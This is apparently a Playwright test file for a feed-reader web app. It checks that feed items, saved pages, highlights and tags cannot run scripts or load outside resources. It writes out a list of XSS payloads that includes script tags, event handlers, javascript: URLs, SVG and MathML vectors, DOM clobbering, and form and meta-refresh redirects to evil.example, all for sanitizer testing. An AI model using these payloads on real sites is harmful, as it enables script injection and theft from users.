"""Whatever a feed or a page holds runs nothing and loads nothing but pictures.

In a browser that was told to disregard the content security policy: it is the second lock.
"""

import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from html import escape

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from kith.actions import looks, notes
from kith.actions.clock import utc_now
from kith.actions.looks import Heard, Manner
from kith.core.quoting import Quote
from kith.db.models import Mark, User, Voice
from kith.sources.feed import parse
from tests.browser.conftest import Opens
from tests.net.test_html import HOSTILE as CLEANED
from tests.web import world
from tests.web.sites import site

EVIL = "https://evil.example"
RUN = "window.ran=1;alert(1)"
BAD = f"<img src=x onerror={RUN}>"
KINDS = {
    "script": f"<script>{RUN}</script><script src={EVIL}/x.js></script>",
    "handlers": f"{BAD}<p onclick={RUN} onmouseover={RUN} onfocus={RUN} tabindex=0>x</p>",
    "opened": f"<details open ontoggle={RUN}>x</details><body onload={RUN}><marquee onstart={RUN}>",
    "javascript": f'<a href="javascript:{RUN}">x</a><a href="java&#9;script:{RUN}">x</a>',
    "data": f"<img src='data:image/svg+xml,<svg onload={RUN}>'><a href='data:text/html,x'>x</a>",
    "svg": f"<svg onload={RUN}><a xlink:href=javascript:{RUN}><text>x</text></a><style>{BAD}",
    "mathml": f"<math><mtext><table><mglyph><style>{BAD}</style></mglyph></table>",
    "forms": f"<form action={EVIL}/f><input autofocus onfocus={RUN}><button>x</button></form>",
    "styles": f"<style>@import '{EVIL}/s.css';</style><p style='background:url({EVIL}/b)'>x</p>",
    "linked": f"<link rel=stylesheet href={EVIL}/l.css><link rel=prefetch href={EVIL}/p>",
    "clobbering": "<a id=getElementById name=cookie>x</a><form id=body></form><p id=dock>x</p>",
    "names": "<img name=getElementById src=x><form name=forms></form><object id=cookie></object>",
    "frames": f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='{BAD}'></iframe>",
    "objects": f"<object data={EVIL}/o></object><embed src={EVIL}/e><applet code=x></applet>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'><base href={EVIL}/>",
    "media": f"<video src={EVIL}/v autoplay poster={EVIL}/q></video><audio src={EVIL}/a autoplay>",
    "attributes": "<p hx-get=/hx hx-trigger=load data-hx-get=/hx data-key=f data-row class=dock>x",
    "picture": f"<img src={EVIL}/picture.png srcset='{EVIL}/set 2x' alt=x>",
}
ADDRESSES = (f"javascript:{RUN}", "data:text/html,<script>alert(1)</script>", f"{EVIL}/'{BAD}")
TEXT = "<p>" + "Fine words that are long enough to be the text of a page. " * 12 + "</p>"

# Everything that can be done to what others wrote, but following its links.
STIR = """() => {
  const named = ["mouseover", "mouseenter", "pointerover", "focus", "toggle", "load", "error",
    "animationend", "begin", "close", "scroll", "wheel", "keydown", "click"];
  for (const one of document.querySelectorAll("#body *, .text > h1, .by *, .what *, .note *")) {
    for (const name of named) {
      if (name === "click" && one.closest("a, button, summary")) continue;
      one.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }));
    }
  }
}"""
FAULTS = """() => {
  const found = [];
  const safe = /^(https?|mailto|tel):$/;
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on") || name === "style" || name === "srcdoc") found.push(one.outerHTML);
      if (!/^(href|src|action|formaction|data|poster|xlink:href|background)$/.test(name)) continue;
      if (value && !safe.test(new URL(value, location).protocol)) found.push(one.outerHTML);
    }
  }
  const others = "script, style, link, meta, base, svg, math, form, input, button, textarea, "
    + "select, iframe, object, embed, video, audio, template, noscript, title";
  for (const one of document.querySelectorAll("#body *")) {
    const plain = !one.matches(others) && !one.id.replace(/^highlight-\\d+$/, "");
    const named = /^(name|data-(?!highlight)|hx-)/;
    const names = one.getAttributeNames().filter((name) => named.test(name));
    if (!plain || names.length || one.className.replace("pen", "")) found.push(one.outerHTML);
  }
  const ours = (address) => new URL(address, location).origin === location.origin;
  for (const one of document.forms) if (!ours(one.getAttribute("action") || "")) found.push("form");
  for (const one of document.styleSheets) if (!ours(one.href)) found.push(one.href || "style");
  if (window.ran) found.push("it ran");
  if (typeof document.getElementById !== "function" || typeof document.cookie !== "string"
    || document.body.tagName !== "BODY") found.push("clobbered");
  if (document.querySelectorAll("#dock").length > 1) found.push("two docks");
  return found;
}"""


@dataclass
class Watch:
    """What a page did that nobody asked it to."""

    page: Page
    home: str
    said: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._dialog)
        self.page.on("popup", lambda page: self.said.append(f"popup {page.url}"))
        self.page.context.on("request", self._request)

    def _dialog(self, dialog: Dialog) -> None:
        self.said.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        outside = not request.url.startswith(self.home)
        if "/hx" in request.url or (outside and request.resource_type != "image"):
            self.said.append(f"{request.resource_type} {request.url}")
        if outside and "referer" in request.headers:
            self.said.append(f"{request.url} learned where it is shown")

    def look(self, path: str) -> None:
        """Open a page and stir everything in it; whatever happens is written down."""
        self.page.goto(path)
        self.stir()

    def stir(self) -> None:
        there = self.page.url
        self.page.evaluate(STIR)
        self.page.wait_for_timeout(50)
        found = self.page.evaluate(FAULTS)
        if len(self.page.frames) > 1:
            found.append("a frame")
        if self.page.url != there:
            found.append(f"it went to {self.page.url}")
        self.said += [f"{there}: {one}" for one in found]


@pytest.fixture
def watch(opens: Opens, served: str) -> Watch:
    page = opens("/health/", bypass_csp=True)
    page.add_script_tag(content="window.control = 1")
    assert page.evaluate("window.control") == 1, "the policy is still there"
    return Watch(page, served)


def heard(user: User, body: str) -> Voice:
    """A voice whose feed was this, parsed and stored as any other."""
    voice = world.voice(user, "", address=f"{EVIL}/{len(body)}")
    there, feed, now = world.channel(voice), parse(body.encode()), utc_now()
    understood = looks.understand(there, feed, now)
    looks.heard([Heard(there, *understood, Manner())], now, lambda: 0.5)
    return voice


def as_json(kinds: Sequence[str]) -> str:
    """A JSON Feed with every kind in every place."""
    items = [
        {
            "id": f"{number}",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "external_url": f"javascript:{RUN}",
            "title": f"Fine {one}",
            "summary": f"{one} Fine",
            "content_html": f"{one}<p>Fine</p>",
            "image": f"javascript:{RUN}",
            "authors": [{"name": one, "url": f"javascript:{RUN}"}],
            "tags": [one],
            "language": f'en" onload="{RUN}',
            "attachments": [{"url": f"javascript:{RUN}", "mime_type": "audio/mpeg", "title": one}],
        }
        for number, one in enumerate(kinds)
    ]
    whole = {"title": kinds[0], "description": kinds[0], "home_page_url": f"javascript:{RUN}"}
    version = "https://jsonfeed.org/version/1.1"
    return json.dumps({"version": version, **whole, "icon": f"javascript:{RUN}", "items": items})


def as_rss(kinds: Sequence[str]) -> str:
    """The same as RSS, where titles are HTML that was escaped."""
    items = "".join(
        f"<item><guid>{number}</guid><title>{escape(escape(one))} Fine</title>"
        f"<link>{escape(ADDRESSES[number % len(ADDRESSES)])}</link>"
        f"<comments>javascript:{RUN}</comments><author>{escape(one)}</author>"
        f"<category>{escape(one)}</category><description>{escape(one)} Fine</description>"
        f'<enclosure url="javascript:{RUN}" type="video/mp4" length="1"/></item>'
        for number, one in enumerate(kinds)
    )
    return f'<rss version="2.0"><channel><title>{escape(kinds[1])}</title>{items}</channel></rss>'


@pytest.mark.parametrize("form", [as_json, as_rss])
def test_in_feeds(watch: Watch, owner: User, form: object) -> None:
    voice = heard(owner, form(list(KINDS.values())))  # type: ignore[operator]
    marks = list(Mark.objects.filter(owner=owner))
    assert len(marks) == len(KINDS)
    lists = ("/read/?shelf=all", "/read/filter/", "/search/?q=fine", "/people/", "/health/")
    for path in (*lists, f"/people/{voice.pk}/", f"/read/?voice={voice.pk}&shelf=all"):
        watch.look(path)
    for mark in marks:
        watch.look(f"/read/{mark.entry_id}/")
    assert watch.said == []


def test_in_feeds_whatever_tricks_they_know(watch: Watch, owner: User) -> None:
    bundles = ["<p>Fine</p>".join(CLEANED[start::12]) for start in range(12)]
    heard(owner, as_json(bundles))
    for mark in Mark.objects.filter(owner=owner):
        watch.look(f"/read/{mark.entry_id}/")
    assert watch.said == []


@pytest.fixture
def pages() -> Iterator[str]:
    """A site with a page that is all of it at once, and one that it marks as its article."""
    said = "".join(f"<div>{one}</div>{TEXT}" for one in KINDS.values())
    bad = escape(KINDS["script"])
    told = "".join(f'<meta name={one} content="{bad}">' for one in ("author", "description"))
    head = f"<title>{bad}</title>{told}"
    plain = f"{head}<body><div class=menu>{'<a href=/>Menu</a> ' * 200}</div><div>{said}</div>"
    marked = f"{head}<article>{said}</article>"
    with site({"/plain": ("text/html", plain), "/marked": ("text/html", marked)}) as home:
        yield home


def test_in_full_texts(watch: Watch, owner: User, pages: str) -> None:
    world.voice(owner, "Terse", world.said("Cut", html="<p>Short</p>", url=f"{pages}/plain"))
    mark = Mark.objects.get(owner=owner)
    watch.look(f"/read/{mark.entry_id}/")
    watch.page.keyboard.press("f")
    expect(watch.page.locator("#body")).to_contain_text("Fine words", timeout=30_000)
    watch.stir()
    watch.look(f"/read/{mark.entry_id}/")
    watch.look("/search/?q=fine")
    assert watch.said == []


def test_in_pages_that_are_kept(watch: Watch, pages: str) -> None:
    watch.look(f"/keep/?url={pages}/marked&title=<script>{RUN}</script>")
    watch.page.get_by_role("button", name="Keep it").click()
    expect(watch.page.locator("#body")).to_contain_text("Fine words", timeout=30_000)
    watch.stir()
    watch.look("/read/?shelf=kept")
    watch.look("/search/?q=fine")
    watch.look(f"/keep/?url=javascript:{RUN}&title=x")
    assert watch.said == []


def test_in_what_readers_add_and_ask(watch: Watch, owner: User) -> None:
    world.voice(owner, "Ines", world.said("Rain", html=TEXT))
    mark = Mark.objects.get(owner=owner)
    for one in KINDS.values():
        notes.highlight(mark, TEXT, Quote("Fine words"), utc_now(), note=f"Mine {one}")
    notes.tag(mark, [one[:100] for one in KINDS.values()])
    for path in (f"/read/{mark.entry_id}/", "/search/?q=mine", f"/search/?q={KINDS['handlers']}"):
        watch.look(path)
    watch.look("/read/?shelf=all&tag=" + KINDS["handlers"])
    assert watch.said == []


def test_pictures_are_what_loads(watch: Watch, owner: User) -> None:
    heard(owner, as_json([KINDS["picture"], "x"]))
    mark = Mark.objects.get(owner=owner, entry__guid="0")
    with watch.page.expect_request(f"{EVIL}/picture.png") as asked:
        watch.look(f"/read/{mark.entry_id}/")
    assert "referer" not in asked.value.headers
    assert watch.said == []


DEEP = "<ul><li>" * 25 + "deep" + "</li></ul>" * 25
WIDE = [
    f"<p>{'x' * 2000}</p>",
    f"<table><tr>{'<td>cellcellcell</td>' * 30}</tr></table><pre>{'y' * 500}</pre>",
    f"{DEEP}<dl><dd>{'<blockquote>' * 25}deep{'</blockquote>' * 25}</dd></dl>",
    f"<p><code>{'k' * 300}</code></p><img src={EVIL}/wide.png width=9999 height=9>",
]


@pytest.mark.parametrize("width", [320, 1180])
def test_nothing_is_wider_than_the_screen(opens: Opens, owner: User, width: int) -> None:
    for number, html in enumerate(WIDE):
        world.voice(owner, f"{number}" + "Long" * 60, world.said("W" * 400, html=html))
    marks = Mark.objects.filter(owner=owner)
    page = opens("/read/?shelf=all", width=width)
    entries = [f"/read/{mark.entry_id}/" for mark in marks]
    lists = [f"/read/?shelf=all&voice={marks[0].voice_id}", "/search/?q=deep", "/health/"]
    for path in ("/read/?shelf=all", *lists, *entries):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= width, path


def test_no_name_turns_what_stands_beside_it(opens: Opens, owner: User) -> None:
    author = "\u202erohtua"
    world.voice(owner, "\u202eeciov", world.said("\u202eeltit", author=author))
    page = opens(f"/read/{Mark.objects.get().entry_id}/")
    name, time = page.locator(".by bdi").bounding_box(), page.locator(".by time").bounding_box()
    assert name
    assert time
    assert name["x"] + name["width"] < time["x"]
